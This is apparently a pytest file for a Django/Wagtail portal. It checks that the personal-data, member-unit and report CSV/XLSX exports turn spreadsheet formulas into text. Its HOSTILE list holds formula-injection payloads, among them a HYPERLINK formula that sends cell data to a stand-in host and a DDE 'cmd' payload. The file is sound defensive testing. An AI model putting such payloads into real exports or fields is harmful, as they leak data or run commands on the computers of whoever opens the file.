"""No export hands Excel a formula (issue 21, finding 10): a 留言 name `=HYPERLINK(…)`
comes out as text, in the personal-data CSV and in the admin's CSV/XLSX downloads."""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils.timezone import now
from wagtail.models import Page

from association.models import MemberUnit
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_personal_data_csv_shows_formulas_as_text(capsys):
    for number, name in enumerate(HOSTILE):
        factories.MessageFactory(subject=f"留言{number}", name=name, phone="13800138000")
    call_command("personal_data", "export", "--phone", "13800138000", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
    assert sorted(row["姓名"] for row in rows) == sorted("'" + name for name in HOSTILE)
    assert all(row["联系电话"] == "13800138000" for row in rows)  # plain values untouched


@pytest.fixture
def units(db):
    for name in HOSTILE:
        MemberUnit.objects.create(name=name)
    MemberUnit.objects.create(name="苏州工业园区")


@pytest.fixture
def admin_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("admin", "a@example.org", "x"))
    return client


def test_member_unit_csv_export_shows_formulas_as_text(admin_client, units):
    url = reverse("wagtailsnippets_association_memberunit:list")
    response = admin_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    names = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert sorted(names) == sorted(["'" + name for name in HOSTILE] + ["苏州工业园区"])


def test_member_unit_xlsx_export_shows_formulas_as_text(admin_client, units):
    url = reverse("wagtailsnippets_association_memberunit:list")
    response = admin_client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(names) == sorted(["'" + name for name in HOSTILE] + ["苏州工业园区"])
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))


FORMULA_TITLE = '=HYPERLINK("http://x","y")'
REPORTS = ["aging_pages", "locked_pages", "site_history"]


def cells(response, export_format):
    """Every cell of a downloaded CSV or XLSX report, as a reader's spreadsheet has it."""
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row
        ]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def formula_page(column, editor):
    page = factories.NewsPageFactory(parent=column, title=FORMULA_TITLE, slug="formula")
    page.save_revision(user=editor, log_action=True).publish(user=editor)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=editor, locked_at=now())
    return page


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("report", REPORTS)
def test_wagtails_reports_show_formulas_as_text(
    client, editor, formula_page, report, export_format
):
    """Wagtail's own downloads, as an editor gets them, through the one rule of
    portal/core/spreadsheets.py."""
    client.force_login(editor)
    response = client.get(reverse(f"wagtailadmin_reports:{report}"), {"export": export_format})
    assert response.status_code == 200
    exported = cells(response, export_format)
    assert "'" + FORMULA_TITLE in exported
    assert FORMULA_TITLE not in exported
